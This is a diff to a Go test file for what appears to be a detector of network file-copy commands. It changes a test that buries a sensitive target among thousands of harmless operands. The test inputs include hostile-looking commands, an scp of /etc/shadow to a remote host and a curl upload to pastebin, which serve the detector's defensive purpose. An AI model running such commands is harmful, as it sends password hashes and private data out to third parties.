@@ -1,6 +1,7 @@
 package netfilecopyprocessor
 
 import (
+	"fmt"
 	"slices"
 	"strings"
 	"testing"
@@ -149,16 +150,19 @@ func TestTheSSHBelowAnSCPIsLinked(t *testing.T) {
 	assert.Equal(t, "high", other.band.Importance)
 }
 
-// Whoever runs a tool may give it any number of harmless operands, before and after what it is about.
+// Whoever runs a tool may give it any number of harmless operands before what it is about.
 func TestNothingHidesAmongMany(t *testing.T) {
 	p := newProcessor(t, Config{})
-	for _, many := range []int{1, 30, 100, 1000} {
-		files, urls := strings.Repeat("/srv/x/a.txt ", many), strings.Repeat("http://127.0.0.1/a ", many)
-		v := verdictOf(t, p, "scp "+files+"/etc/shadow "+files+"h.example.org:", nil)
+	for _, many := range []int{1, 30, 100, 9000} { // with which the arguments are nearly as long as is read of them
+		files, urls := strings.Repeat("/x/a ", many), ""
+		for i := range many / 3 {
+			urls += fmt.Sprintf("127.0.0.1/%d ", i)
+		}
+		v := verdictOf(t, p, "scp "+files+files+"/etc/shadow h.example.org:", nil)
 		require.NotNil(t, v)
 		assert.Equal(t, []string{"/etc/shadow"}, v.sensitive, many)
 
-		v = verdictOf(t, p, "curl -T f "+urls+"https://pastebin.com/api "+urls, nil)
+		v = verdictOf(t, p, "curl -T f "+urls+urls+"https://pastebin.com/api", nil)
 		require.NotNil(t, v)
 		assert.Equal(t, destination.Paste, v.class, many)
 		listed := v.listedRemotes()
